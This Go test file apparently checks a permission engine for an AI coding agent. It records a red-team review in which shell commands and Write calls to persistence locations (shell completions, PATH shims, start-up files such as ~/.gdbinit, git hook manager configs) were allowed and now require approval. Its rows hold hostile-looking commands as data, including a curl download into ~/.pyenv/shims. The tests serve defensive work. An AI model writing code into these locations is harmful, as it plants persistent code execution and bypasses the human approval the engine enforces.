package permission

import (
	"slices"
	"strings"
	"testing"
)

// s16Protected are the places a red-team review wrote code to that runs
// later (a shell's completions and frameworks, directories on PATH ahead
// of the host's programs, tools' start-up files, a project's git hook
// managers), each allowed before S16. Every one is written by the shell
// and by the Write tool in TestRedTeamDecisionsS16 and
// TestRedTeamToolDecisionsS16.
var s16Protected = []string{
	"~/.bash_completion",
	"~/.local/share/bash-completion/completions/git",
	"~/.oh-my-zsh/custom/x.zsh",
	"~/.cargo/bin/ls",
	"~/.pyenv/shims/python",
	"~/.rbenv/shims/ruby",
	"~/.volta/bin/node",
	"~/.bun/bin/bun",
	"~/.nvm/versions/node/v20.11.0/bin/node",
	"~/.asdf/shims/node",
	"~/.local/share/mise/shims/node",
	"~/.nix-profile/bin/git",
	"~/go/bin/gopls",
	"~/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
	"~/.cargo/config.toml",
	"~/.cargo/config",
	"~/.gradle/init.d/x.gradle",
	"~/.gradle/init.gradle",
	"~/.gradle/gradle.properties",
	"~/.mavenrc",
	"~/.docker/cli-plugins/docker-compose",
	"~/.config/plasma-workspace/env/x.sh",
	"~/.emacs",
	"~/.emacs.d/init.el",
	"~/.config/emacs/init.el",
	"~/.gdbinit",
	"~/.config/gdb/gdbinit",
	"~/.lldbinit",
	"~/.ipython/profile_default/startup/00-x.py",
	"~/.psqlrc",
	"~/.sqliterc",
	"~/.Rprofile",
	"~/.irbrc",
	"~/.pryrc",
	"~/.wezterm.lua",
	"~/.config/kitty/kitty.conf",
	"~/.config/alacritty/alacritty.toml",
	"~/.inputrc",
	"~/.config/Code/User/settings.json",
	".pre-commit-config.yaml",
	"lefthook.yml",
	".lefthook.yml",
	"lefthook-local.yml",
	".overcommit.yml",
	".simple-git-hooks.json",
	".simple-git-hooks.js",
	"sub/.pre-commit-config.yaml",
}

// TestRedTeamDecisionsS16 is TestRedTeamDecisions for the S16 review: one
// row per attack (each allowed before its fix), next to harmless
// neighbours that keep their decisions.
func TestRedTeamDecisionsS16(t *testing.T) {
	t.Parallel()
	D, Y := ModeDefault, ModeBypassPermissions
	type row struct {
		name  string
		mode  Mode
		rules []string
		cmd   string
		want  Decision
	}
	tests := []row{
		// C: protected places that were missing (s16Protected, below).
		{"S16 C a hook manager's configuration by a glob", Y, nil, `cp x lefthook.y*`, Ask},
		{"S16 C cd into a shim directory", Y, nil, `cd ~/.pyenv/shims && curl -O https://x/python`, Ask},
		{"S16 C neighbour: a glob that starts with a wildcard", Y, nil, `rm -rf build/*.yml dist/*`, Allow},
		{"S16 C neighbour: cat ~/.gdbinit", D, nil, `cat ~/.gdbinit`, Allow},
		{"S16 C neighbour: a cargo cache", Y, nil, `echo x >> ~/.cargo/registry/cache/x`, Allow},
		{"S16 C neighbour: project files", Y, nil, `echo x >> Makefile && cp x package.json && cp x src/x.go && echo x >> docs/lefthook.md`, Allow},
	}
	for _, p := range s16Protected {
		tests = append(tests,
			row{"S16 C echo >> " + p, Y, nil, "echo x >> " + p, Ask},
			row{"S16 C cp to " + p, Y, nil, "cp x " + p, Ask})
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := engine(t, tt.mode, tt.rules...).Check(bash(tt.cmd))
			if res.Decision != tt.want {
				t.Errorf("%q in %s: %v (%s), want %v", tt.cmd, tt.mode, res.Decision, res.Reason, tt.want)
			}
		})
	}
}

// TestRedTeamToolDecisionsS16 is TestRedTeamDecisionsS16 for the file
// tools.
func TestRedTeamToolDecisionsS16(t *testing.T) {
	t.Parallel()
	D, Y := ModeDefault, ModeBypassPermissions
	type row struct {
		name  string
		mode  Mode
		rules []string
		call  Call
		want  Decision
	}
	tests := []row{
		{"S16 C neighbour: Write package.json", Y, nil, Call{Tool: "Write", Path: "package.json"}, Allow},
		{"S16 C neighbour: Write Makefile", Y, nil, Call{Tool: "Write", Path: "Makefile"}, Allow},
		{"S16 C neighbour: Write src/x.go", Y, nil, Call{Tool: "Write", Path: "src/x.go"}, Allow},
		{"S16 C neighbour: Read ~/.gdbinit", D, nil, Call{Tool: "Read", Path: "~/.gdbinit"}, Allow},
	}
	for _, p := range s16Protected {
		tests = append(tests, row{"S16 C Write " + p, Y, nil, Call{Tool: "Write", Path: p}, Ask})
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			res := engine(t, tt.mode, tt.rules...).Check(tt.call)
			if res.Decision != tt.want {
				t.Errorf("%s %q in %s: %v (%s), want %v", tt.call.Tool, tt.call.Path, tt.mode, res.Decision, res.Reason, tt.want)
			}
		})
	}
}

// TestS16ProtectedFoldCase: where file systems fold case (macOS), a
// protected name that a program spells with capitals is met in any case,
// as the lower-case ones are; so every listed name with capitals must be
// listed lower case as well, since Engine.protected lower-cases the path.
func TestS16ProtectedFoldCase(t *testing.T) {
	t.Parallel()
	for _, list := range [][]string{sensitiveWriteDirs, sensitiveWriteNames, sensitiveWriteHome} {
		for _, n := range list {
			if lower := strings.ToLower(n); lower != n && !slices.Contains(list, lower) {
				t.Errorf("%q is listed, %q is not: a folding file system reaches it by either", n, lower)
			}
		}
	}
	e := engine(t, ModeBypassPermissions)
	e.FoldCase = true
	for _, p := range []string{"~/.Rprofile", "~/.RPROFILE", "~/.rprofile", "~/.config/code/User/settings.json"} {
		if res := e.Check(Call{Tool: "Write", Path: p}); res.Decision != Ask {
			t.Errorf("Write %q with FoldCase: %v (%s), want ask", p, res.Decision, res.Reason)
		}
	}
}
